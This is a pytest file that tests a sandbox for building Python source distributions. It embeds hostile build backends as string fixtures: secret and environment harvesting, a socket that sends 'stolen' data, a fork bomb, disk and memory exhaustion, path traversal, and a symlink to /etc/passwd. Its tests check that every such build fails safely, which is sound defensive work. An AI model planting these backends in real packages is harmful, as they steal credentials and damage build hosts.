"""Source distributions whose build attacks: each ends as a failure that names it, and nothing is touched."""

from __future__ import annotations

import asyncio
import os
import socket
import zipfile
from collections.abc import AsyncIterator
from dataclasses import replace
from pathlib import Path

import pytest

from sdist_makers import BACKEND_PROJECT, make_backend_sdist, make_index, make_sdist
from source_builds import LIMITS, SourceBuilds, source_builds
from vitrine_builder.failures import BuildFailure, FailureReason

SECRET = "hunter2-of-the-builder"
LOOK_AROUND = """
def build_wheel(folder, config_settings=None, metadata_directory=None):
    import json, os, pathlib
    found = dict(os.environ)
    for place in ("/proc/1/environ", "/proc/self/environ", "/root", "/home", "/var", "/work/..", "{outside}"):
        path = pathlib.Path(place)
        try:
            found[place] = str([str(each) for each in path.iterdir()] if path.is_dir() else path.read_bytes())
        except OSError as error:
            found[place] = repr(error)
    FILES[NAME + ".py"] = "FOUND = " + repr(found)
    return write(folder, f"{{NAME}}-{{VERSION}}-py3-none-any.whl", FILES)
"""
OPEN_NETWORK = """
def build_wheel(folder, config_settings=None, metadata_directory=None):
    import socket
    socket.create_connection(("127.0.0.1", {port}), 3).sendall(b"stolen")
"""
NEVER_ENDS = """
def build_wheel(*_):
    while True:
        pass
"""
FORKS = """
def build_wheel(*_):
    import os, time
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
"""
FILLS_DISK = """
def build_wheel(folder, *_):
    with open("filler", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
"""
EATS_MEMORY = """
def build_wheel(folder, *_):
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * (8 << 20)))
"""
PRINTS = """
def build_wheel(*_):
    import sys
    while True:
        sys.stdout.write("noise " * 1000 + "\\n")
"""
WRITES_OUTSIDE = """
def build_wheel(folder, config_settings=None, metadata_directory=None):
    for place in ("{outside}/touched", "/env/touched", "/usr/touched", "/opt/python/touched", "/etc/touched"):
        try:
            open(place, "w").close()
        except OSError:
            continue
        raise SystemExit("wrote " + place)
    raise SystemExit("nothing could be written")
"""
OTHER_NAME = """
def build_wheel(folder, config_settings=None, metadata_directory=None):
    return write(folder, "numpy-9.9-py3-none-any.whl", FILES)
"""
TRAVERSAL = """
def build_wheel(folder, config_settings=None, metadata_directory=None):
    return write(folder, f"{NAME}-{VERSION}-py3-none-any.whl", {**FILES, "../../../../escaped.py": "x"})
"""
TWO_WHEELS = """
def build_wheel(folder, config_settings=None, metadata_directory=None):
    write(folder, "numpy-9.9-py3-none-any.whl", FILES)
    return write(folder, f"{NAME}-{VERSION}-py3-none-any.whl", FILES)
"""
LINK = """
def build_wheel(folder, config_settings=None, metadata_directory=None):
    import os
    os.symlink("/etc/passwd", os.path.join(folder, f"{NAME}-{VERSION}-py3-none-any.whl"))
    return f"{NAME}-{VERSION}-py3-none-any.whl"
"""
ASKS_FOR_ADDRESS = """
def get_requires_for_build_wheel(config_settings=None):
    return ["six @ http://127.0.0.1/six.whl"]
"""
SPEAKS_NONSENSE = """
def get_requires_for_build_wheel(config_settings=None):
    import os
    os.makedirs("/work/answer", exist_ok=True)
    open("/work/answer/requires.json", "w").write("[" * 100_000)
    os._exit(0)
"""


@pytest.fixture
async def builds(tmp_path: Path) -> AsyncIterator[SourceBuilds]:
    index = make_index(tmp_path / "index", _folder(tmp_path / "files"))
    async with source_builds(tmp_path / "environments", {"UV_DEFAULT_INDEX": index}) as opened:
        yield opened


def _folder(path: Path) -> Path:
    path.mkdir(exist_ok=True)
    return path


def offer(builds: SourceBuilds, backend: str = "", *, name: str = "thing") -> None:
    """Put a source distribution with this backend into the index."""
    root = builds.workspace.root.parent
    make_backend_sdist(root / "files", name, "1.0", backend)
    make_index(root / "index", root / "files")


async def failure_of(builds: SourceBuilds, text: str = "thing==1.0") -> BuildFailure:
    """Return the failure, having checked that it names the requirement and leaves nothing behind."""
    with pytest.raises(BuildFailure) as caught:
        await builds.lock(text)
    failure = caught.value
    assert failure.sentence.startswith("needs.txt line 1: `thing==1.0`"), failure.sentence
    assert failure.culprit == "thing==1.0"
    assert builds.wheels == []
    left = [path.name for path in builds.workspace.drafts.iterdir()]
    assert sorted(left) == ["lock", "sources"]
    assert list(builds.workspace.resolutions.glob("*.json")) == []
    return failure


async def test_an_honest_one_is_built_and_kept(builds: SourceBuilds) -> None:
    offer(builds)
    lock = await builds.lock("thing==1.0")
    assert [wheel.name for wheel in builds.wheels] == ["thing-1.0-py3-none-any.whl"]
    (package,) = lock.packages
    assert package.source in package.hashes
    assert f"sha256:{builds.wheels[0].parent.name}" in package.hashes


async def test_a_build_sees_no_variable_and_no_file_of_the_builder(
    builds: SourceBuilds, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("VITRINE_S3_SECRET_KEY", SECRET)
    (tmp_path / "private.txt").write_text(SECRET)
    offer(builds, LOOK_AROUND.format(outside=tmp_path))
    await builds.lock("thing==1.0")
    with zipfile.ZipFile(builds.wheels[0]) as archive:
        found = archive.read("thing.py").decode()
    assert SECRET not in found
    assert "VITRINE_S3" not in found
    assert "private.txt" not in found
    assert str(os.getpid()) not in found.partition("/proc/1/environ")[2][:200]


async def test_a_build_reaches_no_network(builds: SourceBuilds) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.01)
        offer(builds, OPEN_NETWORK.format(port=server.getsockname()[1]))
        failure = await failure_of(builds)
        with pytest.raises(TimeoutError):
            server.accept()
    assert failure.reason is FailureReason.SOURCE_BUILD
    assert "Connection" in failure.sentence or "Network" in failure.sentence


async def test_a_build_that_never_ends_is_ended(builds: SourceBuilds) -> None:
    builds.sandboxes.limits = replace(LIMITS, seconds=2)
    offer(builds, NEVER_ENDS)
    assert "did not end within 2 seconds" in (await failure_of(builds)).sentence


async def test_a_build_that_forks_without_end_is_ended(builds: SourceBuilds) -> None:
    builds.sandboxes.limits = replace(LIMITS, seconds=3)
    offer(builds, FORKS)
    assert (await failure_of(builds)).reason is FailureReason.SOURCE_BUILD
    await asyncio.sleep(0)
    assert not _processes_with(str(builds.workspace.root))


async def test_a_build_that_fills_the_disk_is_ended(builds: SourceBuilds) -> None:
    offer(builds, FILLS_DISK)
    failure = await failure_of(builds)
    assert "writes more than 64 MiB" in failure.sentence


async def test_a_build_that_takes_all_memory_is_ended(builds: SourceBuilds) -> None:
    builds.sandboxes.limits = replace(LIMITS, memory_bytes=128 << 20)
    offer(builds, EATS_MEMORY)
    assert (await failure_of(builds)).reason is FailureReason.SOURCE_BUILD


async def test_a_build_that_prints_without_end_costs_a_bounded_log(builds: SourceBuilds) -> None:
    builds.sandboxes.limits = replace(LIMITS, seconds=2)
    offer(builds, PRINTS)
    failure = await failure_of(builds)
    assert len(failure.log) <= 41
    assert sum(len(line) for line in failure.log) < 50_000


async def test_a_build_writes_nowhere_but_in_its_own(builds: SourceBuilds, tmp_path: Path) -> None:
    before = {path for path in tmp_path.rglob("*") if "environments" not in path.parts}
    offer(builds, WRITES_OUTSIDE.format(outside=tmp_path))
    assert "nothing could be written" in (await failure_of(builds)).sentence
    after = {path for path in tmp_path.rglob("*") if "environments" not in path.parts}
    assert {path.name for path in after - before} <= {"thing", "index.html", "thing-1.0.tar.gz"}


@pytest.mark.parametrize(
    ("backend", "said"),
    [
        (OTHER_NAME, "it gave a wheel of `numpy==9.9`"),
        (TRAVERSAL, "it gave a wheel with the path"),
        (TWO_WHEELS, "did not give one wheel"),
        (LINK, "did not give one wheel"),
        (ASKS_FOR_ADDRESS, "its build requirements are refused (`six` is taken from an address)"),
        (SPEAKS_NONSENSE, "does not say what it needs"),
    ],
    ids=["other name", "traversal", "two wheels", "link", "address", "nonsense"],
)
async def test_what_a_build_gives_is_looked_at(builds: SourceBuilds, backend: str, said: str) -> None:
    offer(builds, backend)
    failure = await failure_of(builds)
    assert failure.reason is FailureReason.SOURCE_BUILD
    assert said in failure.sentence


async def test_an_archive_that_leaves_its_folder_touches_nothing(
    builds: SourceBuilds, tmp_path: Path
) -> None:
    files = {"pyproject.toml": BACKEND_PROJECT, f"../../../../../../..{tmp_path}/touched": "x"}
    make_sdist(tmp_path / "files", "thing", "1.0", files)
    make_index(tmp_path / "index", tmp_path / "files")
    assert (await failure_of(builds)).reason is FailureReason.SOURCE_BUILD
    assert not (tmp_path / "touched").exists()


def _processes_with(text: str) -> list[str]:
    found = []
    for place in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            line = place.read_bytes().decode(errors="replace")
        except OSError:
            continue
        if text in line and "pytest" not in line:
            found.append(line)
    return found
